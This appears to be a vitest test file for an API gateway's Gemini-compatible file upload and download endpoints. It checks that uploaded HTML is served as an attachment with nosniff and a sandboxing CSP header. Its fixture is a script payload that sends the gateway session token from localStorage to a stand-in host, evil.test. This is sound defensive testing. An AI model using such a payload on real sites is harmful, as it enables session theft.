import { afterEach, describe, expect, it } from 'vitest';
import { inProcessGateway, type InProcessGateway } from '../../media/in-process-app.ts';

let gw: InProcessGateway | undefined;
afterEach(async () => {
  await gw?.close();
  gw = undefined;
});

/** Uploads `bytes` with Google's resumable protocol, as @google/genai's files.upload does; the file's name. */
async function upload(g: InProcessGateway, bytes: Buffer, mimeType: string): Promise<string> {
  const start = await g.request('/upload/v1beta/files', {
    method: 'POST',
    headers: { 'x-goog-api-key': g.apiKey, 'x-goog-upload-protocol': 'resumable', 'x-goog-upload-command': 'start', 'x-goog-upload-header-content-length': String(bytes.length), 'content-type': 'application/json' },
    body: JSON.stringify({ file: { displayName: 'page', mimeType } }),
  });
  expect(start.status).toBe(200);
  const url = new URL(start.headers.get('x-goog-upload-url')!);
  const done = await g.request(`${url.pathname}${url.search}`, {
    method: 'POST',
    headers: { 'x-goog-api-key': g.apiKey, 'x-goog-upload-command': 'upload, finalize', 'x-goog-upload-offset': '0' },
    body: new Uint8Array(bytes),
  });
  expect(done.status).toBe(200);
  return ((await done.json()) as { file: { name: string } }).file.name;
}

describe("Gemini files' download", () => {
  it('never lets a browser render an upload as a page of the gateway (an HTML upload opened by a link with ?key= would run in the dashboard origin, where the session token is)', async () => {
    gw = await inProcessGateway();
    const page = Buffer.from('<script>fetch("https://evil.test/?t=" + localStorage.getItem("gateway.session"))</script>');
    const name = await upload(gw, page, 'text/html');
    const res = await gw.request(`/download/v1beta/${name}:download?alt=media&key=${gw.apiKey}`);
    expect(res.status).toBe(200);
    // The bytes as uploaded, for the SDK; a browser saves them instead of rendering them, and runs no script if it did.
    expect(Buffer.from(await res.arrayBuffer())).toEqual(page);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
  });
});
